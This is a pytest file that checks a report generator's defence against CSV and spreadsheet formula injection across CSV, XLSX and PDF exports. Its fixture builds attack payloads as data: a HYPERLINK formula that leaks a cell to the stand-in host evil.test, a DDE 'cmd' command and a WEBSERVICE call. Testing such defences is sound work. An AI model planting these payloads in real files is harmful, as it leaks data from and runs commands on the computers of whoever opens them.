"""Issue 17: a name or a description that a spreadsheet would take for a formula (it starts with =, +, -, @, a tab
or a carriage return) is written as inert text in every report format: prefixed with a single quote (OWASP's
advice against CSV injection) in the CSV, the zipped summary CSV, XLSX and PDF, and typed as a string in XLSX,
never as a formula. Numbers written as numbers (durations, rates, amounts) stay numbers, negative ones too.
Each file is read back (csv, openpyxl, pypdf)."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from app.models import Role
from app.reports.generate import generate
from app.reports.params import ReportParams, check
from app.reports.query import ReportRow
from app.reports.writers.cells import text_cell
from app.reports.writers.formats import Meta, open_writer

AS_OF = datetime(2026, 12, 5, 12, 0)
LEADING = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "carriage_return": "\r"}


def _payloads(c: str) -> SimpleNamespace:
    """What an attacker types, starting with `c`: a live link, a DDE command, a sum."""
    return SimpleNamespace(
        project=f'{c}HYPERLINK("http://evil.test/?leak="&A1,"Open") project',
        client=f"{c}cmd|' /C calc'!A0 client",
        description=f"{c}1+2 description",
        user=f"{c}SUM(A1:A9) person",
        organization=f"{c}WEBSERVICE(\"http://evil.test\") org",
    )


def _world(factory, c: str):
    p = _payloads(c)
    org = factory.organization(name=p.organization, currency="EUR")
    owner = factory.user(org, Role.OWNER, name=p.user, time_zone="UTC")
    client = factory.client(org, name=p.client)
    project = factory.project(org, client=client, name=p.project, hourly_rate=Decimal("60.00"))
    factory.time_log(owner, project, datetime(2026, 11, 2, 9, 0), 90, description=p.description)
    return SimpleNamespace(org=org, owner=owner, payloads=p)


def _generate(w, tmp_path: Path, fmt: str, groups: list[str]):
    params = check(ReportParams(organization_id=w.org.id, range="custom", date_from="2026-11-01",
                                date_to="2026-11-30", groups=groups, format=fmt, time_zone="UTC"))
    return tmp_path / generate(params, w.owner, w.org, tmp_path, "r", AS_OF).file_name


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("c", LEADING.values(), ids=LEADING.keys())
def test_csv_detail_cells_are_prefixed_with_a_quote(db, factory, tmp_path, c):
    w = _world(factory, c)
    path = _generate(w, tmp_path, "csv", [])
    with open(path, newline="", encoding="utf-8") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row, strict=True))
    p = w.payloads
    assert cells["user"] == "'" + p.user
    assert cells["project"] == "'" + p.project
    assert cells["client"] == "'" + p.client
    assert cells["description"] == "'" + p.description
    assert cells["duration"] == "1:30" and cells["amount (EUR)"] == "90.00"  # numbers as they were


@pytest.mark.parametrize("c", LEADING.values(), ids=LEADING.keys())
def test_zipped_summary_csv_cells_are_prefixed_with_a_quote(db, factory, tmp_path, c):
    w = _world(factory, c)
    path = _generate(w, tmp_path, "csv", ["project", "client"])
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        summary = _csv(zf.read(next(n for n in names if n.endswith("-summary.csv"))).decode("utf-8"))
        detail = _csv(zf.read(next(n for n in names if not n.endswith("-summary.csv"))).decode("utf-8"))
    p = w.payloads
    assert ["Organization", "'" + p.organization] in summary
    assert ["'" + p.project, "'" + p.client, "1:30", "1", "90.00"] in summary  # the group, its subgroup
    assert ["'" + p.project, "Subtotal", "1:30", "1", "90.00"] in summary
    assert detail[1][4] == "'" + p.user and detail[1][8] == "'" + p.description


@pytest.mark.parametrize("c", LEADING.values(), ids=LEADING.keys())
def test_xlsx_text_is_text_never_a_formula(db, factory, tmp_path, c):
    w = _world(factory, c)
    path = _generate(w, tmp_path, "xlsx", ["project", "client"])
    wb = load_workbook(path)
    p = w.payloads
    header, row = list(wb["Detail"].iter_rows(max_row=2))
    cells = {h.value: cell for h, cell in zip(header, row, strict=True)}
    for column, value in (("User", p.user), ("Project", p.project), ("Client", p.client),
                          ("Description", p.description)):
        assert cells[column].data_type == "s", column
        assert cells[column].value == _as_xml_reads("'" + value), column
    assert cells["Amount (EUR)"].data_type == "n" and cells["Amount (EUR)"].value == 90.0
    summary = [list(r) for r in wb["Summary"].iter_rows()]
    organization = next(r[1] for r in summary if r[0].value == "Organization")
    assert organization.data_type == "s" and organization.value == _as_xml_reads("'" + p.organization)
    group = next(r for r in summary if r[1].value == "Subtotal")
    child = next(r for r in summary if r[1].value == _as_xml_reads("'" + p.client))
    for cell in (group[0], child[0], child[1]):
        assert cell.data_type == "s" and cell.value == _as_xml_reads("'" + (p.client if cell is child[1]
                                                                             else p.project))
    formulas = [cell.coordinate for ws in wb for r in ws.iter_rows() for cell in r if cell.data_type == "f"]
    assert formulas == []


def _as_xml_reads(text: str) -> str:
    """XML parsers read a carriage return in element text as a line feed (XML 1.0, end-of-line handling)."""
    return text.replace("\r", "\n")


@pytest.mark.parametrize("c", ["=", "@"])
def test_pdf_tables_show_the_same_quoted_text(db, factory, tmp_path, c):
    w = _world(factory, c)
    path = _generate(w, tmp_path, "pdf", ["project"])
    text = "\n".join(page.extract_text() for page in PdfReader(path).pages)
    assert "'" + w.payloads.description in text
    assert "'" + w.payloads.project[:20] in text


def test_plain_text_and_an_inner_formula_sign_are_left_as_they_are(db, factory, tmp_path):
    assert text_cell("Kick-off = 1 + 1 @ home") == "Kick-off = 1 + 1 @ home"
    assert text_cell(" =1+1") == " =1+1"  # a leading space: text to every spreadsheet already
    assert text_cell("") == "" and text_cell(None) == ""
    assert text_cell("-") == "'-"


def test_negative_numbers_stay_numbers_and_error_words_stay_text(tmp_path):
    """Writers alone (no database): a credit row with negative rate and amount, and texts openpyxl would otherwise
    store as an error value ("#N/A") or refuse (a control character)."""
    params = ReportParams(organization_id=1, range="custom", date_from="2026-11-01", date_to="2026-11-30",
                          groups=["project"], time_zone="UTC")
    row = ReportRow(log_id=1, day=date(2026, 11, 2), start=datetime(2026, 11, 2, 9), end=datetime(2026, 11, 2, 10),
                    seconds=3600, user="#N/A", team="", project="Credit\x07 note", client="", description="-5",
                    billable=True, rate=Decimal("-12.50"), amount=Decimal("-12.50"), user_id=1, project_id=1,
                    team_id=None, client_id=None)
    summary = {"levels": ["project"], "currency": "EUR", "has_amount": True,
               "groups": [{"label": "Credit\x07 note", "seconds": 3600, "rows": 1, "amount": "-12.50"}],
               "total": {"label": "Total", "seconds": 3600, "rows": 1, "amount": "-12.50"}}
    meta = Meta(title="Credits", organization="Acme", currency="EUR", parameters="", params=params,
                generated_at=AS_OF, as_of=AS_OF)

    for fmt in ("csv", "xlsx"):
        params.format = fmt
        writer = open_writer(fmt, tmp_path, f"credit-{fmt}", meta)
        writer.write(row)
        name = writer.close(summary)
        if fmt == "csv":
            with zipfile.ZipFile(tmp_path / name) as zf:
                detail = _csv(zf.read("credit-csv.csv").decode("utf-8"))
                lines = _csv(zf.read("credit-csv-summary.csv").decode("utf-8"))
            assert detail[1][8] == "'-5"  # a description is text, whatever it looks like
            assert detail[1][10:12] == ["-12.50", "-12.50"]  # rate and amount: numbers, unquoted
            assert lines[-1] == ["Total", "1:00", "1", "-12.50"]
        else:
            wb = load_workbook(tmp_path / name)
            cells = list(wb["Detail"].iter_rows(min_row=2, max_row=2))[0]
            assert (cells[4].data_type, cells[4].value) == ("s", "#N/A")
            assert (cells[6].data_type, cells[6].value) == ("s", "Credit note")
            assert (cells[8].data_type, cells[8].value) == ("s", "'-5")
            assert [(c.data_type, c.value) for c in cells[10:12]] == [("n", -12.5), ("n", -12.5)]
            total = next(r for r in wb["Summary"].iter_rows() if r[0].value == "Total")
            assert (total[3].data_type, total[3].value) == ("n", -12.5)
